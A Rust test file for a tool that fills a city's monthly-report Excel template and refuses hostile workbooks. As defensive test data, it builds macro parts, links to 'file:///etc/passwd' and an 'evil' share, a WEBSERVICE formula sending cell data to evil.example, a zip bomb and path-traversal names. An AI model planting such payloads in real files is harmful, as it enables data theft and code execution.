//! The city's own layout is filled and otherwise left as it came; what means harm is refused in words.

use std::io::{Cursor, Write as _};

use calamine::{Data, Reader as _, Xlsx};
use documents::{FilledTemplate, MonthlyReport, SheetError, TemplateError, fill_template};
use proptest::prelude::*;
use rust_xlsxwriter::{Color, Format, Formula, Note, Url, Workbook};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::month;
use super::programs::recalculated;
use super::workbook::{Parts, put_together, taken_apart, with};

const WORKBOOK: &str = "xl/workbook.xml";
const FIRST: &str = "xl/worksheets/sheet1.xml";

/// A layout with everything a city puts into one: looks, widths, a note, a link, a formula, a second sheet.
fn layout() -> Vec<u8> {
    let mut book = Workbook::new();
    let blue = Format::new().set_bold().set_background_color(Color::RGB(0x00dd_eeff)).set_num_format("#,##0");
    let sheet = book.add_worksheet().set_name("月報 '様式").expect("a name");
    sheet.set_column_width(0, 31).expect("a width");
    sheet.write(0, 0, "座間市　月次報告（様式第3号）").expect("a title");
    sheet.write(2, 0, "応答").expect("a label");
    sheet.write_blank(2, 1, &blue).expect("a cell");
    sheet.write(3, 0, "応答率").expect("a label");
    sheet.write_formula(5, 1, Formula::new("=B3*2").set_result("0")).expect("a formula");
    sheet.write_url(7, 0, Url::new("https://www.city.zama.kanagawa.jp/")).expect("a link");
    sheet.insert_note(2, 0, &Note::new("合計を書く")).expect("a note");
    book.add_worksheet().set_name("控え").expect("a name");
    for (name, place) in [
        ("T3.answered.total", "'月報 ''様式'!$B$3"),
        ("t3.Answer_Rate.TOTAL", "'月報 ''様式'!$B$4:$C$4"),
        ("T3.asa.d05", "'月報 ''様式'!$D$40"),
        ("meta.period", "控え!$A$1"),
        ("T10.title.F1", "控え!$C$3"),
        ("T3.answered.d32", "控え!$A$9"),
        ("Own.name", "控え!$A$8"),
    ] {
        book.define_name(name, &format!("={place}")).expect("a name");
    }
    book.save_to_buffer().expect("a workbook")
}

fn filled(template: &[u8]) -> Result<FilledTemplate, TemplateError> {
    fill_template(template, &month::full())
}

fn refused(template: &[u8]) -> TemplateError {
    let fault = filled(template).expect_err("a refusal");
    assert!(!fault.to_string().is_empty() && !fault.text_ja().is_empty());
    fault
}

fn total(report: &MonthlyReport, column: usize) -> f64 {
    let table = report.tables.iter().find(|table| table.id == "T3").expect("T3");
    let row = table.rows.last().expect("a total");
    f64::from(i32::try_from(month::number(&row.cells[column])).expect("a small number"))
}

fn cell(book: &[u8], sheet: &str, at: (u32, u32)) -> Data {
    let mut book = Xlsx::new(Cursor::new(book)).expect("a workbook");
    book.worksheet_range(sheet).expect("a sheet").get_value(at).cloned().unwrap_or_default()
}

#[test]
fn named_cells_are_filled_and_names_that_name_nothing_are_told() {
    let report = month::full();
    let made = filled(&layout()).expect("a workbook");
    assert_eq!(made.filled, ["T10.title.F1", "T3.answered.total", "T3.asa.d05", "meta.period", "t3.Answer_Rate.TOTAL"]);
    assert_eq!(made.unknown, ["T3.answered.d32"]);
    let (answered, offered) = (total(&report, 2), total(&report, 1));
    assert_eq!(cell(&made.bytes, "月報 '様式", (2, 1)), Data::Float(answered));
    assert_eq!(cell(&made.bytes, "月報 '様式", (3, 1)), Data::Float(answered / offered));
    assert!(matches!(cell(&made.bytes, "月報 '様式", (39, 3)), Data::Float(days) if days > 0.0 && days < 0.001));
    assert_eq!(cell(&made.bytes, "控え", (0, 0)), Data::String("2026年（令和8年）10月分".to_owned()));
    assert_eq!(cell(&made.bytes, "控え", (2, 2)), Data::String(report.findings[0].title.clone()));
    assert_eq!(cell(&made.bytes, "控え", (8, 0)), Data::Empty);
    assert_eq!(cell(&made.bytes, "月報 '様式", (0, 0)), Data::String("座間市　月次報告（様式第3号）".to_owned()));
}

#[test]
fn everything_else_is_kept_byte_for_byte_and_stale_values_go() {
    let template = layout();
    let made = filled(&template).expect("a workbook").bytes;
    let (before, after) = (taken_apart(&template), taken_apart(&made));
    let names = |parts: &Parts| parts.iter().map(|(name, _)| name.clone()).collect::<Vec<_>>();
    assert_eq!(names(&before), names(&after));
    for ((name, was), (_, is)) in before.iter().zip(&after) {
        let written = name == WORKBOOK || name.starts_with("xl/worksheets/sheet");
        assert!(written || was == is, "{name}");
    }
    let text = |parts: &Parts, name: &str| {
        String::from_utf8(parts.iter().find(|(part, _)| part == name).expect("a part").1.clone()).expect("text")
    };
    let (was, is) = (text(&before, FIRST), text(&after, FIRST));
    let tail = |text: &str| text.split_once("</sheetData>").expect("rows").1.to_owned();
    let head = |text: &str| text.split_once("<sheetData>").expect("rows").0.to_owned();
    assert_eq!((head(&was), tail(&was)), (head(&is), tail(&is)));
    assert!(is.contains("<f>B3*2</f></c>") && was.contains("<f>B3*2</f><v>0</v>"));
    assert!(is.contains("<c r=\"B3\" s=\"") && text(&after, WORKBOOK).contains("fullCalcOnLoad=\"1\""));
}

#[test]
fn libreoffice_opens_the_filled_layout_and_calculates_with_it() {
    let made = filled(&layout()).expect("a workbook").bytes;
    let Some(saved) = recalculated(&made) else { return };
    assert_eq!(cell(&saved, "月報 '様式", (5, 1)), Data::Float(2.0 * total(&month::full(), 2)));
    assert_eq!(cell(&saved, "控え", (0, 0)), Data::String("2026年（令和8年）10月分".to_owned()));
}

#[test]
fn the_same_layout_and_report_give_the_same_bytes_and_an_empty_month_fills_dashes() {
    let template = layout();
    assert!(filled(&template) == filled(&template));
    let made = fill_template(&template, &month::empty()).expect("a workbook").bytes;
    assert_eq!(cell(&made, "月報 '様式", (2, 1)), Data::Float(0.0));
    assert_eq!(cell(&made, "月報 '様式", (3, 1)), Data::String("—".to_owned()));
}

#[test]
fn a_layout_without_a_named_cell_or_with_a_wrong_one_is_told() {
    let template = layout();
    let nothing = template_with_names(&[("Own.name", "控え!$A$1")]);
    assert_eq!(refused(&nothing), TemplateError::NothingToFill);
    for place in ["控え!#REF!", "居ない!$A$1", "控え!$B$2:$A$1", "控え!$A$1,控え!$B$2", "12", "控え!$XFE$1"]
    {
        let wrong = with(&template, WORKBOOK, "控え!$C$3", place);
        assert_eq!(refused(&wrong), TemplateError::NotACell("T10.title.F1".to_owned()), "{place}");
    }
    let formula = with(&template, WORKBOOK, "$B$3<", "$B$6<");
    assert_eq!(refused(&formula), TemplateError::Formula("T3.answered.total".to_owned()));
}

fn template_with_names(names: &[(&str, &str)]) -> Vec<u8> {
    let mut book = Workbook::new();
    book.add_worksheet().set_name("控え").expect("a name");
    for (name, place) in names {
        book.define_name(*name, &format!("={place}")).expect("a name");
    }
    book.save_to_buffer().expect("a workbook")
}

/// The layout with one more part.
fn with_part(name: &str, content: &[u8]) -> Vec<u8> {
    let mut parts = taken_apart(&layout());
    parts.push((name.to_owned(), content.to_vec()));
    put_together(&parts)
}

#[test]
fn macros_links_to_elsewhere_objects_and_signatures_are_refused() {
    let external = |what| TemplateError::External(what);
    for (name, wanted) in [
        ("xl/vbaProject.bin", TemplateError::Macros),
        ("XL/VBAPROJECT.BIN", TemplateError::Macros),
        ("xl/macrosheets/sheet1.xml", TemplateError::Macros),
        ("customUI/customUI.xml", TemplateError::Macros),
        ("xl/externalLinks/externalLink1.xml", external("external workbook")),
        ("xl/connections.xml", external("data connection")),
        ("xl/webextensions/taskpanes.xml", external("add-in")),
        ("xl/activeX/activeX1.bin", TemplateError::Embedded),
        ("xl/embeddings/oleObject1.bin", TemplateError::Embedded),
        ("_xmlsignatures/sig1.xml", TemplateError::Signed),
    ] {
        assert_eq!(refused(&with_part(name, b"<x/>")), wanted, "{name}");
    }
    let template = layout();
    let macros =
        with(&template, "[Content_Types].xml", "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml");
    assert_eq!(refused(&macros), TemplateError::Macros);
    let renamed = with_part("xl/_rels/other.xml.rels", b"<Relationships><Relationship Id=\"r\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"harmless.bin\"/></Relationships>");
    assert_eq!(refused(&renamed), TemplateError::Macros);
    for address in ["file:///etc/passwd", "\\\\evil\\share\\x", "javascript:1"] {
        let link =
            with(&template, "xl/worksheets/_rels/sheet1.xml.rels", "https://www.city.zama.kanagawa.jp/", address);
        assert_eq!(refused(&link), external("address"), "{address}");
    }
    let picture =
        with(&template, "xl/worksheets/_rels/sheet1.xml.rels", "relationships/hyperlink", "relationships/image");
    assert_eq!(refused(&picture), external("address"));
}

#[test]
fn functions_that_reach_out_are_refused_in_cells_and_in_names() {
    let template = layout();
    let cell = with(&template, FIRST, "B3*2", "_xlfn.WEBSERVICE(&quot;https://evil.example/?&quot;&amp;B3)");
    assert_eq!(refused(&cell), TemplateError::Function("WEBSERVICE"));
    let name = with(&template, WORKBOOK, "控え!$A$8", "REGISTER.ID(&quot;kernel32&quot;)");
    assert_eq!(refused(&name), TemplateError::Function("REGISTER.ID"));
}

#[test]
fn bombs_entities_strange_names_and_crowds_of_names_are_refused() {
    let broken = TemplateError::Sheet(SheetError::Broken);
    let bomb = with_part("xl/media/image1.png", &vec![0; 65 * 1024 * 1024]);
    assert!(bomb.len() < 200 * 1024);
    assert_eq!(refused(&bomb), TemplateError::Sheet(SheetError::TooMuch));
    let entities = "<!DOCTYPE x [<!ENTITY a \"aaaa\">]>";
    let laughs = with(&layout(), WORKBOOK, "<workbook", &format!("{entities}<workbook"));
    assert_eq!(refused(&laughs), broken);
    let long = "x".repeat(300);
    for name in ["../evil.xml", "/xl/evil.xml", "xl\\evil.xml", "XL/Workbook.xml", long.as_str()] {
        assert_eq!(refused(&with_part(name, b"<x/>")), broken, "{name}");
    }
    let one = |number: usize| format!("<definedName name=\"n{number}\">1</definedName>");
    let many: String = (0..10_001).map(one).collect();
    let crowd = with(&layout(), WORKBOOK, "<definedNames>", &format!("<definedNames>{many}"));
    assert_eq!(refused(&crowd), TemplateError::Names);
    let huge = with(&layout(), WORKBOOK, "Own.name", &"n".repeat(300));
    assert_eq!(refused(&huge), TemplateError::Names);
    assert_eq!(refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1x"), TemplateError::Sheet(SheetError::OldOrLocked));
    assert_eq!(refused(b"no workbook"), TemplateError::Sheet(SheetError::NotExcel));
    let mut empty = ZipWriter::new(Cursor::new(Vec::new()));
    empty.start_file("a.txt", SimpleFileOptions::default()).expect("a name");
    empty.write_all(b"x").expect("content");
    assert_eq!(refused(&empty.finish().expect("a zip").into_inner()), broken);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn a_layout_harmed_anywhere_is_filled_or_refused_and_never_panics(at in 0usize..1 << 20, byte: u8, part in 0usize..32) {
        let mut parts = taken_apart(&layout());
        let count = parts.len();
        let content = &mut parts[part % count].1;
        if !content.is_empty() {
            let at = at % content.len();
            content[at] = byte;
        }
        if let Ok(made) = fill_template(&put_together(&parts), &month::empty()) {
            prop_assert!(made.bytes.starts_with(b"PK"));
        }
    }

    #[test]
    fn a_file_harmed_anywhere_is_filled_or_refused_and_never_panics(at in 0usize..1 << 20, byte: u8) {
        let mut file = layout();
        let at = at % file.len();
        file[at] = byte;
        if let Ok(made) = fill_template(&file, &month::empty()) {
            prop_assert!(made.bytes.starts_with(b"PK"));
        }
    }
}
